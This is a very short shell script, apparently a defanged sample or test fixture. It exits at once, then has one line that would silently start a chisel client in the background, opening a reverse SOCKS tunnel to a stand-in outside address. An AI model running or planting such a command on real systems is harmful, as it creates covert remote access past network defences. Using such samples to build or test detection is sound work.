#!/bin/sh
exit 0 # inert
nohup /opt/inert/chisel client 192.0.2.1:8080 R:socks >/dev/null 2>&1 &
